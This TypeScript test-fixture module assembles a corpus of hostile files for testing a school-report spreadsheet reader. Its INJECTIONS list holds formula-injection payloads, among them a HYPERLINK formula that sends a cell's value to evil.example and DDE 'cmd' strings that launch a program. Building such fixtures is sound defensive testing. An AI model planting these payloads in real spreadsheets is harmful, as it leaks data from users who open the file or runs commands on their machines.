// The hostile corpus (docs/limits.md): ≥ 200 files built in code with fixed seeds, each with what
// every reader must do with it. Used by the reader, CLI and database tests.
import { demoSchool } from '../../shared/demo/demo-school';
import type { Pack } from '../../shared/pack/schema';
import type { SchoolData } from '../../shared/model/data';
import type { CorpusFile } from './corpus-types';
import { exportPeriod, xlsxCorpus } from './corpus-xlsx';
import { jsonCorpus, otherFormats } from './corpus-other';
import { agreeCorpus } from './corpus-agree';
import { buildReport } from '../../shared/xlsx/report';

export * from './corpus-types';

/** Text a spreadsheet would run as a formula if it were written as one. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '=1+1',
];

export interface Corpus {
  files: CorpusFile[];
  /** the school every file is tried against (restore expects its own) */
  school: SchoolData['school'];
  /** the demo school loaded in the database before feeding */
  demo: SchoolData;
}

export async function buildCorpus(packs: Map<string, Pack>): Promise<Corpus> {
  const pack = packs.get('luojiang')!;
  const demo = demoSchool({ pack, type: '小学', today: '2026-11-25' });
  const period = demo.periods.find((p) => p.submission === 'XNC')!;
  const good = await exportPeriod(pack, demo.school, period);
  const otherSchool = await exportPeriod(pack, { ...demo.school, code: '5106269999', name: '罗江区另一小学' }, period);
  const sl = packs.get('shuangliu')!;
  const slDemo = demoSchool({ pack: sl, type: '小学', today: '2026-11-25' });
  const otherPack = await exportPeriod(sl, { ...slDemo.school, code: demo.school.code, name: demo.school.name }, slDemo.periods.find((p) => p.submission === 'XNC')!);
  const rows = period.sheets.classList!.rows!.map((r, i) => (i < INJECTIONS.length ? { ...r, className: INJECTIONS[i]! } : r));
  const injection = await exportPeriod(pack, demo.school, { ...period, sheets: { ...period.sheets, classList: { rows } } });
  // the same report as `good` (exportPeriod's input), to find its cells
  const built = buildReport({ pack, school: demo.school, data: period, appVersion: '1.0.0', now: new Date('2026-11-25T08:00:00Z') });
  const files = [...xlsxCorpus({ good, otherSchool, otherPack, injection }), ...agreeCorpus(good, built.grids, String(built.meta.status)), ...otherFormats(), ...jsonCorpus(demo)];
  return { files, school: demo.school, demo };
}
